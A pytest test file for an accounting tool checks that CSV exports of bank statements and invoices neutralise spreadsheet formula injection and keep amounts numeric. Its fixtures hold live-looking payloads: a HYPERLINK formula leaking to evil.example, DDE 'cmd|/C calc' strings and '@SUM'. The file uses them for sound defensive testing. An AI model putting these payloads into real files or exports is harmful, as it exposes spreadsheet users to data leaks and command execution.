"""CSV injection (issue 11): text from bank files and invoice lists never becomes a live formula in an export,
and amounts stay numbers a spreadsheet can add up."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from ledger_templates import new_ledger
from sqlalchemy import select
from test_cli import kontor

from app.models.schema import Transaction
from app.services.csv_safety import SafeWriter, number_cell, safe_cell
from app.services.i18n import set_language
from app.services.ledger.database import Ledger
from app.services.statements.csv_mappings import mapping_for
from app.services.statements.importing import export_transactions, import_statement_files
from app.services.statements.query import export_csv, transaction_rows, write_rows

OWN = "DE89370400440532013000"
PAYER = "DE02120300000000202051"
SECRET = "Formel-Geheim-4711"
ENV = {"KONTOR_PASSPHRASE": SECRET, "KONTOR_USER": "anna"}

HYPERLINK = '=HYPERLINK("http://evil.example/?leak=1";"Klick")'
DDE = "+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT_SUM = "@SUM(A1)"

# A bank's CSV export (semicolons, German numbers); the payloads sit in name and purpose, quoted as banks quote
BANK_CSV = f"""Datum;Empfänger;Zweck;Wert;Konto
02.03.2026;"{HYPERLINK.replace('"', '""')}";Rechnung RE-2026-0042;1.190,00;{PAYER}
03.03.2026;Telekom;{DDE};-49,90;DE02100100100006820101
04.03.2026;{MINUS};{AT_SUM};-12,50;DE02100100100006820101
"""
BANK_MAP = "date=Datum,amount=Wert,name=Empfänger,purpose=Zweck,iban=Konto"
INVOICES = f"""Rechnungsnummer;Kunde;Kundennummer;IBAN;Rechnungsdatum;Fällig am;Betrag brutto
RE-2026-0042;{AT_SUM};+K10001;{PAYER};02.03.2026;16.03.2026;1.190,00
"""


def run(home: Path, ledger: Path, *args: str):  # noqa: ANN201
    result = kontor("--ledger", str(ledger), *args, home=home, env=ENV)
    assert result.returncode == 0, result.stderr
    return result


@pytest.fixture
def ledger(tmp_path: Path) -> Ledger:
    """A ledger holding the bank CSV above, imported the way `kontor import statement --map` does."""
    opened = new_ledger(tmp_path / "l.kontor", SECRET, company_name="C")
    path = tmp_path / "hausbank.csv"
    path.write_text(BANK_CSV, encoding="cp1252")
    [result] = import_statement_files(opened, [path], actor="a", account_iban=OWN, mapping=mapping_for(path, BANK_MAP))
    assert result.new == 3, result.error
    yield opened
    opened.close()


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as stream:
        return list(csv.DictReader(stream))


def test_cells_that_start_like_formulas_get_an_apostrophe() -> None:
    for payload in (HYPERLINK, DDE, MINUS, AT_SUM, "\tTab", "\rCR", "＝1+1"):
        assert safe_cell(payload) == "'" + payload
    for harmless in ("Müller GmbH", "", "12.50", "'quoted", " =spaced"):
        assert safe_cell(harmless) == harmless
    assert safe_cell(None) is None and safe_cell(42) == 42 and safe_cell(Decimal("-12.50")) == Decimal("-12.50")
    assert number_cell(Decimal("-12.5"), decimal_mark=",") == "-12,50"
    assert safe_cell(number_cell(Decimal("-1"))) == "-1.00"
    stream = io.StringIO()
    SafeWriter(stream).writerow([HYPERLINK, Decimal("-12.50"), "-12.50"])
    assert next(csv.reader(io.StringIO(stream.getvalue()))) == ["'" + HYPERLINK, "-12.50", "'-12.50"]


def test_bank_csv_payloads_are_neutralized_in_the_transaction_export(kontor_home: Path, tmp_path: Path) -> None:
    ledger = kontor_home / "firma.kontor"
    run(kontor_home, ledger, "init", "--company", "Firma GmbH")
    (tmp_path / "hausbank.csv").write_text(BANK_CSV, encoding="cp1252")
    imported = run(kontor_home, ledger, "--json", "import", "statement", str(tmp_path / "hausbank.csv"),
                   "--account", OWN, "--map", BANK_MAP)  # fmt: skip
    assert json.loads(imported.stdout)[0]["new"] == 3

    out = tmp_path / "transactions.csv"
    run(kontor_home, ledger, "export", "transactions", "--out", str(out))
    rows = read_csv(out)
    assert [row["counterparty_name"] for row in rows] == ["'" + HYPERLINK, "Telekom", "'" + MINUS]
    assert [row["purpose"] for row in rows] == ["Rechnung RE-2026-0042", "'" + DDE, "'" + AT_SUM]
    assert [Decimal(row["amount"]) for row in rows] == [Decimal("1190.00"), Decimal("-49.90"), Decimal("-12.50")]
    for row in rows:  # no cell of the file is a formula for a spreadsheet
        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row.values())
        assert all(cell == row["amount"] or not cell.startswith("-") for cell in row.values())


def test_invoice_payloads_are_neutralized_in_the_allocation_export(kontor_home: Path, tmp_path: Path) -> None:
    ledger = kontor_home / "firma.kontor"
    run(kontor_home, ledger, "init", "--company", "Firma GmbH")
    (tmp_path / "rechnungen.csv").write_text(INVOICES, encoding="cp1252")
    run(kontor_home, ledger, "import", "invoices", str(tmp_path / "rechnungen.csv"))
    (tmp_path / "hausbank.csv").write_text(BANK_CSV, encoding="cp1252")
    run(kontor_home, ledger, "import", "statement", str(tmp_path / "hausbank.csv"), "--account", OWN, "--map", BANK_MAP)
    run(kontor_home, ledger, "match")

    out = tmp_path / "allocations.csv"
    assert "1 allocations written" in run(kontor_home, ledger, "export", "allocations", "--out", str(out)).stdout
    [row] = read_csv(out)
    assert (row["customer_name"], row["customer_number"]) == ("'" + AT_SUM, "'+K10001")
    assert row["counterparty_name"] == "'" + HYPERLINK
    assert row["invoice_number"] == "RE-2026-0042"
    assert Decimal(row["amount"]) == Decimal(row["allocated_amount"]) == Decimal("1190.00")


@pytest.mark.parametrize("language", ["de", "en"])
def test_table_export_and_clipboard_are_formula_safe(ledger: Ledger, language: str) -> None:
    with ledger.writer() as session:  # tab and CR, as a bank's free-text field may carry them
        telekom = session.scalars(select(Transaction).where(Transaction.amount_cents == -4990)).one()
        telekom.counterparty_name = "\tTab\rCR"
    set_language(language)
    try:
        with ledger.session() as session:
            ids = list(session.scalars(select(Transaction.id).order_by(Transaction.booked_on)))
            stream = io.StringIO()
            export_csv(session, ids, stream)
            clipboard = io.StringIO()
            write_rows(transaction_rows(session, ids), clipboard, delimiter="\t", header=False)
    finally:
        set_language("en")
    delimiter = ";" if language == "de" else ","
    rows = list(csv.reader(io.StringIO(stream.getvalue()), delimiter=delimiter))[1:]
    assert [row[3] for row in rows] == ["'" + HYPERLINK, "'\tTab\rCR", "'" + MINUS]
    assert [row[5] for row in rows] == ["Rechnung RE-2026-0042", "'" + DDE, "'" + AT_SUM]
    amounts = [Decimal(row[6].replace(",", ".")) for row in rows]
    assert amounts == [Decimal("1190.00"), Decimal("-49.90"), Decimal("-12.50")]
    assert all(not row[6].startswith("'") for row in rows)
    pasted = list(csv.reader(io.StringIO(clipboard.getvalue()), delimiter="\t"))
    assert [row[3] for row in pasted] == ["'" + HYPERLINK, "'\tTab\rCR", "'" + MINUS]


def test_export_transactions_keeps_dates_and_numbers_plain(ledger: Ledger, tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    assert export_transactions(ledger, out, date_from=date(2026, 3, 4)) == 1
    [row] = read_csv(out)
    assert (row["booked_on"], row["amount"], row["account_iban"]) == ("2026-03-04", "-12.50", OWN)
